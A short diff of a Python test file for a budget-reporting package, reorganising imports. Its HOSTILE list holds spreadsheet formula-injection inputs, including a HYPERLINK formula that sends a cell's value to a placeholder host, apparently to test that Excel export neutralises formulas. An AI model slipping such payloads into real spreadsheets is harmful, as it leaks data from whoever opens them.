@@ -9,9 +9,9 @@ import openpyxl
 import pandas as pd
 
 from mics_budget.config import DataDir
-from mics_budget.presentation import Table, write_xlsx
-from mics_budget.recording import add_lot, record_event
-from mics_budget.report import MonthlyReport
+from mics_budget.procurement.recording import add_lot, record_event
+from mics_budget.report.presentation import Table, write_xlsx
+from mics_budget.report.report import MonthlyReport
 
 HOSTILE = ['=HYPERLINK("http://x/?"&B2,"ok")', "=1+2", "+1+2", "-1+2", "@SUM(A1)"]
 
